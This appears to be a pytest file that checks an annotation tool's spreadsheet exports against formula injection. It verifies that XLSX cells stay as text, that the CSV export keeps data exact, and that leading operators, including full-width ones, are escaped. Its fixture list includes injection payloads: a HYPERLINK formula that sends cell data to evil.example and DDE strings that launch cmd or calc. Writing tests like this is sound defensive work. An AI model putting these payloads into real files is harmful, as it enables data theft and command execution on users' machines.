"""XLSX exports keep hostile text exactly and never as a formula; CSV keeps data exact."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from annotation.cells import XLSX_CELL_MAX, escape_formula, xlsx_value
from annotation.exports import export_iter
from annotation.models import Response
from tests.engine.conftest import make_study

HOSTILE = [
    '=HYPERLINK("http://evil.example/?q="&A1,"click")',
    "+1+1",
    "-2-3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "٣²",
    "中文 =1",
    'DDE("cmd")',
]


def _hostile_study():
    study = make_study(n_questions=len(HOSTILE), n_llms=1)
    responses = Response.objects.filter(question__dataset=study.dataset).order_by("id")
    for response, text in zip(responses, HOSTILE, strict=True):
        response.text = text
        response.save(update_fields=["text"])
    return study


def _xml_text(value: str) -> str:
    # XML normalises line ends: a carriage return reads back as a line feed.
    return value.replace("\r\n", "\n").replace("\r", "\n")


@pytest.mark.django_db
def test_xlsx_stores_answers_that_look_like_formulas_as_text_unchanged():
    study = _hostile_study()
    data = b"".join(export_iter(study, what="responses", fmt="xlsx"))
    ws = load_workbook(io.BytesIO(data)).active
    header = [c.value for c in ws[1]]
    column = header.index("response")
    cells = [row[column] for row in ws.iter_rows(min_row=2)]
    assert sorted(c.value for c in cells) == sorted(_xml_text(t) for t in HOSTILE)
    assert all(c.data_type == "s" for c in cells)
    # Not one cell of the sheet is a formula.
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)


@pytest.mark.django_db
def test_xlsx_keeps_a_hostile_model_name_as_text():
    study = _hostile_study()
    from annotation.models import LLM

    LLM.objects.filter(responses__question__dataset=study.dataset).update(name="=1+2")
    data = b"".join(export_iter(study, what="responses", fmt="xlsx"))
    ws = load_workbook(io.BytesIO(data)).active
    column = [c.value for c in ws[1]].index("model")
    cells = [row[column] for row in ws.iter_rows(min_row=2)]
    assert {c.value for c in cells} == {"=1+2"}
    assert {c.data_type for c in cells} == {"s"}


@pytest.mark.django_db
def test_raw_csv_keeps_the_data_exactly():
    # Decision (docs/decisions/data.md): the data CSV is for analysis and re-import; escaping
    # would change the data, so it is left exact and the docs warn.
    study = _hostile_study()
    data = b"".join(export_iter(study, what="responses", fmt="csv")).decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(data, newline="")))
    assert sorted(r["response"] for r in rows) == sorted(HOSTILE)


def test_escape_formula_prefixes_only_what_would_run():
    assert escape_formula("=1+1") == "'=1+1"
    assert escape_formula("\t=1") == "'\t=1"
    assert escape_formula("a=1") == "a=1"
    assert escape_formula(-3) == -3
    assert escape_formula("") == ""


@pytest.mark.parametrize("text", ["＝1+1", "＋1", "－1", "＠SUM(A1)", "﹦1+1"])
def test_escape_formula_prefixes_full_width_operators(text):
    # Spreadsheets set up for East Asian input may read a full-width (or small form) operator
    # as its ASCII one, so these are escaped too; "a＝1" is left alone like "a=1".
    assert escape_formula(text) == "'" + text
    assert escape_formula("a" + text) == "a" + text


def test_xlsx_value_cuts_over_long_text_to_the_cell_limit_and_drops_control_characters():
    assert len(xlsx_value("x" * (XLSX_CELL_MAX + 5))) == XLSX_CELL_MAX
    assert xlsx_value("a\x00b\x07c") == "abc"
    assert xlsx_value(float("nan")) is None
